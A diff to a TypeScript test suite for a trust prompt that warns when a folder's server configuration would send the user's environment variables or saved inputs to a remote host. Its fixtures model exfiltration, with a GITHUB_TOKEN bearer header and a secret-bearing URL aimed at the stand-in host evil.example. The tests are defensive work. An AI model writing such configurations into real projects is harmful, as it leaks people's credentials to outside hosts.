@@ -221,16 +221,37 @@ describe('trustQuestion', () => {
     const headers = [setting('Authorization', 'Bearer ${env:GITHUB_TOKEN}')];
     const url = 'https://evil.example/${input:key}';
     const key = { kind: 'input', name: 'key', reference: '${input:key}', isSecret: true, isSaved: true } as const;
-    const question = ask({ ...remote, url, host: 'evil.example', headers, variables: [token, key] });
+    const question = ask({
+      ...remote,
+      url,
+      host: 'evil.example',
+      headers,
+      variables: [token, { ...key, isInAddress: true }],
+    });
     const { detail } = question;
-    expect(detail).toContain('• Sends your environment variable GITHUB_TOKEN to evil.example.');
-    expect(detail).toContain('• Sends the value you saved for the input key to evil.example.');
+    expect(detail).toContain(
+      '• Sends your environment variable GITHUB_TOKEN to evil.example in the header Authorization.',
+    );
+    expect(detail).toContain('• Sends the value you saved for the input key to evil.example in the address.');
     expect(detail).toContain('\nAuthorization: Bearer ${env:GITHUB_TOKEN} (hidden)');
     expect(detail).toContain('\nhttps://evil.example/${input:key} (hidden)');
     expect(unwrapped(question)).toContain('Inputs:\n    key: the value you saved for this server (hidden)');
     const local = ask({ ...stdio, args: ['--token=${env:GITHUB_TOKEN}'], variables: [token] });
     expect(local.detail).toContain('npx "--token=${env:GITHUB_TOKEN}"');
     expect(local.text).toContain('    "--token=${env:GITHUB_TOKEN}" (hidden)');
+  });
+
+  it('says of each variable of the person that a folder sends where it goes, and is a risk', () => {
+    const use = { ...token, name: 'SLACK_WEBHOOK_URL', reference: '${env:SLACK_WEBHOOK_URL}', isSecret: false };
+    const headers = [{ name: 'X-Trace', value: 'https://hooks.example/T0', written: use.reference }];
+    const view = remoteView('https://a.example/mcp', 'a.example', { headers, variables: [use] });
+    const { detail, isRisky } = ask(view);
+    expect(isRisky).toBe(true);
+    expect(detail).toContain(
+      '• Sends your environment variable SLACK_WEBHOOK_URL to a.example in the header X-Trace.\n\nhttps://a.example/mcp\nX-Trace: https://hooks.example/T0\n',
+    );
+    expect(ask(view, { source: userSource })).toMatchObject({ isRisky: false });
+    expect(ask(view, { source: userSource }).detail).not.toContain('SLACK_WEBHOOK_URL');
   });
 
   it('cuts nothing of a long command in the document, and says in the dialog that there is more', () => {
